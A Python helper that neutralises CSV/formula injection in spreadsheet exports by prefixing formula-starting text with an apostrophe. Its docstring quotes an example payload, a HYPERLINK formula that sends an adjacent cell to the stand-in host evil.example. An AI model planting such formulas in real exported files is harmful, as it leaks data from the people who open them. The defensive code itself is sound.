"""Cells for files that staff open in Excel, WPS or LibreOffice: text that cannot run as a formula.

A cell that starts with = + - @ (or a tab or carriage return, which some programs skip
before reading the rest as a formula) is taken as a formula when the file is opened:
`=HYPERLINK("http://evil.example/?"&A2, "点击")` in an area's or a category's name would send
the row next to it away, and DDE payloads start programs (OWASP, "CSV Injection"). Such text
gets a leading apostrophe, which spreadsheets read as "this is text". Full-width signs are
included because some spreadsheet programs fold them to ASCII on input.
"""

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# A plain number ("-12", "+3.5", "-1,234", "-40%") is not a formula and stays as it is.
PLAIN_NUMBER = re.compile(r"[+-]?\d[\d,]*(?:\.\d+)?%?")


def safe_cell(value: Any) -> Any:
    """The value to write into a CSV or XLSX cell: text that would start a formula is made inert."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values) -> list[Any]:
    return [safe_cell(value) for value in values]
